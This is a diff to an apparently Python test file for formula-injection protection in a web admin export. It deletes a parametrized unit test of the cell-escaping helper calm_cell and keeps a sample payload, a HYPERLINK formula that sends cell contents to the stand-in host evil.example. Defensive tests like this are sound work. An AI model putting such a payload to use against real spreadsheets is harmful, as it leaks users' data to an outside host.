@@ -21,7 +21,6 @@ from tests.integration.web.admin.conftest import EVIL, Office
 from tests.support.forms import hidden_fields
 from tests.support.shop import add_outsider
 from tests.support.web import browser
-from web.kit.cells import calm_cell
 
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
 
@@ -68,12 +67,6 @@ async def test_the_table_holds_no_formula(office: Office, at_desk: httpx.AsyncCl
     assert row["reason"] == f"'{FORMULA}"
     assert (row["edge"], row["target_user_id"]) == ("chat", str(office.anna.id))
     assert "<b>" not in row["said"]
-
-
-@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1", "\n-1"])
-def test_cells_that_spreadsheets_would_run(text: str) -> None:
-    assert calm_cell(text) == f"'{text}"
-    assert calm_cell(f"x{text}") == f"x{text}"
 
 
 async def test_who_reads_the_journal(office: Office) -> None:
